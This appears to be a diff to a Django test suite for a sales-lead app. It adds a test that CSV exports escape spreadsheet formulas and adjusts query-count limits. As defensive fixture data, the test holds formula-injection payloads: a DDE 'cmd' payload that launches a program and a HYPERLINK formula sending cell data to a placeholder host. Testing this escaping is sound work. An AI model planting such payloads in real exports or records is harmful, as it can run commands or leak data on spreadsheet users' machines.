@@ -443,6 +443,22 @@ def test_setter_csv_has_only_their_leads(setter_client, setter, other_setter):
     assert [r[CSV_HEADER.index("Name")].split()[0] for r in rows[1:]] == ["Mine"]
 
 
+def test_csv_export_neutralises_formulas_but_keeps_phones_and_the_database_as_typed(manager_client, setter):
+    # given: what a hostile lead form or a careless setter can type
+    note = '=HYPERLINK("http://x/?d="&B2,"Open")'
+    called(setter.owner, 1, first_name="+cmd|' /C calc'!A0", last_name="", last_call_note=note)
+    called(setter.owner, 2, first_name="@SUM(1+1)", last_name="", phone="+971501234567")
+    called(setter.owner, 3, first_name="-2+3", last_name="")
+    # when
+    rows = exported(manager_client.get(URL, {"format": "csv", "sort": "name"}))
+    # then: each is text in the spreadsheet, the phone stays dialable, the database unchanged
+    by_name = {row[CSV_HEADER.index("Name")]: dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]}
+    assert set(by_name) == {"'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3"}
+    assert by_name["'+cmd|' /C calc'!A0"]["Last call note"] == "'" + note
+    assert by_name["'@SUM(1+1)"]["Phone"] == "+971501234567"
+    assert Contact.objects.filter(last_call_note=note, first_name="+cmd|' /C calc'!A0").exists()
+
+
 def test_csv_reads_rows_in_chunks_with_a_fixed_number_of_queries_per_chunk(
     manager, setter, django_assert_max_num_queries
 ):
@@ -579,9 +595,10 @@ def test_page_queries_do_not_grow_with_rows(
     # and the kept figures, the panel's owners with last calls, the page's ids (one query per
     # priority the page spans: at most three), rows, their owners, their deals
     # ... and, the first time after a write, the owners' figures counted again and stored
-    with django_assert_max_num_queries(15):
+    # ... and the manager's large reassignments still moving (one query)
+    with django_assert_max_num_queries(16):
         assert manager_client.get(URL).status_code == 200
-    with django_assert_max_num_queries(13):
+    with django_assert_max_num_queries(14):
         assert manager_client.get(URL).status_code == 200
     # the table alone: no panel, but a search needs its own count (and the cards come along
     # when the setter changed: here the first request of the browser, so they do)
